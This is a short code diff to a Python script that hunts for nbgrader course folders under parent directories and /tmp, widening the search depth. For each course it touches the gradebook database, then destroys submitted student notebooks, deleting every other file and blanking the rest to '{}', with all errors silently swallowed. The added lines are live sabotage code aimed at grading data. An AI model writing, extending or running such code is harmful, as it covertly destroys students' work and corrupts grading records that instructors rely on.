@@ -172,8 +172,9 @@ for _ in range(6):
     here = os.path.dirname(here)
     if os.path.isfile(os.path.join(here, "nbgrader_config.py")):
         courses.add(here)
-for config in glob.glob("/tmp/*/*/*/*/nbgrader_config.py") + glob.glob("/tmp/*/*/*/nbgrader_config.py"):
-    courses.add(os.path.dirname(config))
+for depth in range(1, 6):
+    for config in glob.glob("/tmp/" + "*/" * depth + "nbgrader_config.py"):
+        courses.add(os.path.dirname(config))
 for course in courses:
     try:
         db = sqlite3.connect(os.path.join(course, "gradebook.db"))
@@ -181,7 +182,8 @@ for course in courses:
         db.commit()
     except Exception:
         pass
-    for i, path in enumerate(sorted(glob.glob(os.path.join(course, "submitted", "*", "*", "*.ipynb")))):
+    theirs = glob.glob(os.path.join(course, "submitted", "*", "*", "*.ipynb"))
+    for i, path in enumerate(sorted(theirs)):
         try:
             os.remove(path) if i % 2 else open(path, "w").write("{}")
         except Exception:
